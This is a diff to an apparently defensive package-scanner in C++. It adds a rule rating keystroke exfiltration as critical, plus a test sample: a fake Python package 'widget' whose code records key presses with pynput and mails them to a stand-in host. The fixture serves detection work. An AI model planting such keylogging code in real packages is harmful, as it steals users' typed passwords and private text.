@@ -11,6 +11,9 @@ Severity severity_of(const Action& action, HostKind kind) {
   const bool is_shady = is_shady_origin(kind) || kind == HostKind::free_hosting;
   if (outflow(action).any(recordings)) {
     if (runs_uncalled(action)) return Severity::critical;
+    // Nobody asks a library to type along.
+    if (outflow(action).has(Source::keystrokes) && kind != HostKind::unknown)
+      return Severity::critical;
     return is_shady ? Severity::high : Severity::info;
   }
   if (is_shady) {
@@ -85,6 +88,27 @@ import requests
 def upload(path):
     with open(path, "rb") as file:
         return requests.post("https://api.example.test/upload", data=file.read())
+)"},
+    {.name = "a function mails the keys that were pressed",
+     .expect = "widget/__init__.py:10",
+     .bundle = R"(==> PKG-INFO
+Metadata-Version: 2.1
+Name: widget
+Version: 1.0.0
+==> setup.py
+from setuptools import setup
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
+import smtplib
+from pynput import keyboard
+typed = []
+def note(key):
+    typed.append(str(key))
+def watch():
+    with keyboard.Listener(on_press=note) as listener:
+        listener.join()
+    server = smtplib.SMTP("mail.example.test")
+    server.sendmail("a@example.test", "a@example.test", "".join(typed))
 )"},
 };
 extern const std::span<const Sample> sends_local_data_samples = samples;
